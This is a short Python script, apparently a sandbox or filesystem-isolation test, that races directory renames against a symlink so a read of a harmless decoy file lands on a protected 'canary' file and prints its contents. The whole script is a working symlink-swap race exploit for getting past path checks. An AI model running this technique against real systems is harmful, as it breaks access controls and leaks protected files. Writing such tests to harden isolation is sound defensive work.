import os
import sys
import threading

sys.setswitchinterval(1e-5)
folder, name = os.path.split(os.environ["CANARY"])
os.mkdir("a")
with open("a/" + name, "w") as f:
    f.write("harmless")
os.symlink(folder, "b")
stop = False

def swap():
    while not stop:
        for x, y in (("a", "c"), ("b", "a"), ("a", "b"), ("c", "a")):
            try:
                os.rename(x, y)
            except OSError:
                pass

thread = threading.Thread(target=swap)
thread.start()
for _ in range(3000):
    try:
        with open("a/" + name) as f:
            text = f.read()
    except OSError:
        continue
    if text != "harmless":
        print(text)
        break
stop = True
thread.join()
